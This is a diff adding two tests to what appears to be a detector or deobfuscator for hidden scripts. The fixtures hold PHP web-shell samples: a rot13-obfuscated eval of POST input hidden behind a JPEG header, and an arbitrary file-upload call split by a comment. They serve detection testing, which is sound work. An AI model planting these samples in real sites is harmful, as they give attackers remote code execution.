@@ -70,3 +70,15 @@ def test_an_encoded_block_without_an_end_is_decoded_as_far_as_it_goes() -> None:
 
 def test_bytes_of_two_byte_letters_are_read_both_ways() -> None:
     assert decoded(b"#@~^CwAAAA==\xb0\x41bcQwMAAA==^#~@").count(b"\xb0\x41") == 1
+
+
+def test_a_script_behind_a_picture_is_put_together_from_where_it_begins() -> None:
+    picture = b"\xff\xd8\xff\xe0\0\x10JFIF\0<?\"'(\0" + b"\x80\xf0'\"(<?" * 40
+    (view,) = _views(picture + b"<?php ($b=$_POST['c']) && preg_replace('/ad/e','@'.str_rot13('riny').'($b)','add');?>")
+    assert b"@eval($b)" in view.data
+    assert b"JFIF" not in view.data
+
+
+def test_an_upload_whose_call_is_torn_by_a_comment_is_put_together() -> None:
+    (view,) = _views(b"<?php move_uploaded_file/*;*/($_FILES['f']['tmp_name'], $_FILES['f']['name']);")
+    assert b"move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name'])" in view.data
